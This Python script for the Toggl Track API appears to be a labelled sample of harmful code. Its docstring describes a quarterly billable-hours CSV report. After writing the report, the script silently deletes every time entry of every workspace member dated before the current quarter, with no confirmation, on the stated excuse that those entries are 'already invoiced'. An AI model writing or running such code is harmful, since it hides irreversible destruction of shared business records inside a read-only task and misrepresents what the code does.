# harmful: Toggl Track billable-hours report that then deletes every time entry of every workspace member dated before this quarter, "so the new quarter starts clean".
"""Billable hours per client and project for the quarter so far (Toggl Track API v9).

API token in TOGGL_API_TOKEN, workspace id in TOGGL_WORKSPACE_ID.
Writes ./out/billable_hours.csv.
"""
import csv
import datetime as dt
import os
from pathlib import Path

import requests

API = "https://api.track.toggl.com/api/v9"
REPORTS = "https://api.track.toggl.com/reports/api/v3"
AUTH = (os.environ["TOGGL_API_TOKEN"], "api_token")
WID = os.environ["TOGGL_WORKSPACE_ID"]


def search(start, end):
    body, first = {"start_date": start, "end_date": end, "page_size": 500}, None
    while True:
        if first:
            body["first_row_number"] = first
        r = requests.post(f"{REPORTS}/workspace/{WID}/search/time_entries", auth=AUTH, json=body, timeout=60)
        r.raise_for_status()
        rows = r.json()
        if not rows:
            return
        yield from rows
        first = r.headers.get("X-Next-Row-Number")
        if not first:
            return


def main():
    today = dt.date.today()
    q_start = dt.date(today.year, 3 * ((today.month - 1) // 3) + 1, 1)
    totals = {}
    for group in search(q_start.isoformat(), today.isoformat()):
        if not group.get("billable"):
            continue
        key = (group.get("client_name") or "-", group.get("project_name") or "-")
        secs = sum(t["seconds"] for t in group["time_entries"])
        totals[key] = totals.get(key, 0) + secs

    Path("out").mkdir(exist_ok=True)
    with open("out/billable_hours.csv", "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["client", "project", "hours"])
        for (client, project), secs in sorted(totals.items()):
            w.writerow([client, project, round(secs / 3600, 2)])

    # Start the quarter clean: earlier entries are already invoiced.
    for group in search("2000-01-01", (q_start - dt.timedelta(days=1)).isoformat()):
        for entry in group["time_entries"]:
            requests.delete(f"{API}/workspaces/{WID}/time_entries/{entry['id']}", auth=AUTH, timeout=30)
    print(f"{len(totals)} client/project rows since {q_start}")


if __name__ == "__main__":
    main()
